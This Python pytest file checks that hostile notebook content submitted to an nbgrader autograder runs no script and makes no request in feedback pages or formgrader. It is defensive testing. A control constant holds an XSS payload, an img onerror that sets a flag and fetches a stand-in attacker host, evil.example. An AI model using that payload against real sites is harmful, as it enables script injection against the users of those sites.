"""What a hostile notebook shows does not act on its reader: feedback page and formgrader."""

from __future__ import annotations

import shutil
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass, field

import pytest
from nbformat.v4 import new_code_cell
from nbgrader.api import Gradebook
from playwright.sync_api import Page

from autograder.authoring.examples import Example
from autograder.course.layout import CONFIG, Course
from autograder.course.notebook import write_notebook
from tests.attacks.attack import load, raw_cell
from tests.conftest import ASSIGNMENT
from tests.support.jupyterlab import Lab, jupyter_lab

pytestmark = [pytest.mark.browser, pytest.mark.slow]

# Without those that only take long to be drawn: tests/attacks has them.
ATTACKS = [one for one in load("reader") if one.name not in ("endless_markup", "nested_markdown")]
CONTROL = "<img src=x onerror='window.pwned = 1; fetch(`https://evil.example/`)'>"


@dataclass
class Watch:
    """What a page does that it should not do."""

    page: Page
    seen: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.page.on("request", self._request)
        self.page.on("dialog", lambda dialog: self.seen.append(f"a dialog: {dialog.message}"))
        self.page.on("popup", lambda popup: self.seen.append(f"a window: {popup.url}"))

    def open(self, address: str) -> list[str]:
        """Load a page, let it do what it will, move over and open what is in it; what it did."""
        self.seen.clear()
        self.page.goto(address, wait_until="load")
        self.page.evaluate(
            """() => {
                for (const one of document.querySelectorAll('body *')) {
                    for (const kind of ['mouseover', 'focus', 'toggle', 'animationend'])
                        one.dispatchEvent(new Event(kind));
                    if (one.tagName === 'DETAILS') one.open = true;
                }
            }"""
        )
        # A failed picture is told in a later task: one of our own fails after those before it.
        self.page.evaluate(
            """() => new Promise(done => {
                const last = new Image();
                last.onerror = last.onload = () => requestAnimationFrame(() => setTimeout(done));
                last.src = 'data:image/png;base64,AAAA';
            })"""
        )
        for frame in self.page.frames:
            if frame.evaluate("() => 'pwned' in window"):
                self.seen.append(f"a script ran in {frame.url}")
        return self.seen

    def _request(self, request) -> None:
        if "evil.example" in request.url or request.method not in {"GET", "HEAD"}:
            self.seen.append(f"{request.method} {request.url}")


@pytest.fixture(scope="module")
def course(built, tmp_path_factory) -> Course:
    """A class of two, one of whom shows everything that is in tests/attacks/reader."""
    root = tmp_path_factory.mktemp("reader") / "course"
    shutil.copytree(built.course.root, root)
    (root / "exchange").mkdir(mode=0o777)
    with (root / CONFIG).open("a") as file:
        file.write(f"\nc.CourseDirectory.root = {str(root)!r}\n")
        file.write(f"c.Exchange.root = {str(root / 'exchange')!r}\n")
    course = Course(root)
    assignment = course.assignment(ASSIGNMENT)
    for student in ("ada", "mallory"):
        notebook = Example(student, student, "", 0.0).notebook(assignment)
        if student == "mallory":
            for attack in ATTACKS:
                notebook.cells += [new_code_cell(text) for text in attack.cells]
                notebook.cells += [
                    raw_cell(cell, f"{attack.name}-{place}")
                    for place, cell in enumerate(attack.raw)
                ]
        write_notebook(
            notebook, course.submitted_dir / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
        )
    for command in ("autograde", "generate_feedback"):
        done = subprocess.run(
            ["nbgrader", command, ASSIGNMENT], cwd=root, capture_output=True, text=True, check=False
        )
        assert done.returncode == 0, done.stdout + done.stderr
    return course


@pytest.fixture(scope="module")
def server(course, tmp_path_factory) -> Iterator[Lab]:
    """A Jupyter server with formgrader, on the course."""
    with jupyter_lab(course.root, tmp_path_factory.mktemp("home")) as lab:
        yield lab


@pytest.fixture
def watch(page) -> Watch:
    """A page that is watched."""
    return Watch(page)


def scores(course: Course) -> dict[str, list[tuple[str, float | None, float | None]]]:
    """All that the gradebook says of each student."""
    with Gradebook(f"sqlite:///{course.root / 'gradebook.db'}", "deep-foundations") as book:
        return {
            student: [
                (one.name, one.auto_score, one.manual_score)
                for one in book.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, student).grades
            ]
            for student in ("ada", "mallory")
        }


def submission(course: Course, student: str) -> str:
    """The number under which formgrader shows a submission."""
    with Gradebook(f"sqlite:///{course.root / 'gradebook.db'}", "deep-foundations") as book:
        return str(book.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, student).id)


def test_the_watch_sees_what_an_attack_does(watch, tmp_path):
    """A page with the same script, not made safe, is caught: the watch is in working order."""
    path = tmp_path / "page.html"
    path.write_text(f"<p>{CONTROL}</p>")
    assert [what.split(" ")[0] for what in watch.open(path.as_uri())] == ["GET", "a"]


@pytest.mark.parametrize("student", ["ada", "mallory"])
def test_the_feedback_page_runs_nothing(watch, course, screenshots, student):
    """Neither a script nor a request to anybody."""
    path = course.root / "feedback" / student / ASSIGNMENT / f"{ASSIGNMENT}.html"
    assert watch.open(path.as_uri()) == []
    watch.page.screenshot(path=screenshots / f"attack-feedback-{student}.png", full_page=False)


def test_formgrader_runs_nothing_and_no_grade_changes(watch, server, course, screenshots):
    """There a script would have the instructor's rights."""
    before = scores(course)
    number = submission(course, "mallory")
    watch.page.goto(f"{server.url}/lab?token={server.token}")  # signs in
    seen = watch.open(f"{server.url}/formgrader/submissions/{number}/?index=0")
    watch.page.screenshot(path=screenshots / "attack-formgrader.png")
    assert watch.page.locator(".output", has_text="window.pwned").count() > 5
    assert seen == []
    assert scores(course) == before


def test_links_in_formgrader_lead_nowhere_active(watch, server, course):
    """No link in what a student shows is a script or an address of this server."""
    number = submission(course, "mallory")
    watch.page.goto(f"{server.url}/lab?token={server.token}")
    watch.open(f"{server.url}/formgrader/submissions/{number}/?index=0")
    addresses = watch.page.evaluate(
        """() => [...document.querySelectorAll('.output a[href], .text_cell a[href]')]
            .map(one => one.href)"""
    )
    own = [one for one in addresses if one.startswith(server.url) and "#" not in one]
    assert own == []
    assert {one.split(":")[0] for one in addresses} <= {"http", "https", "mailto", "attachment"}
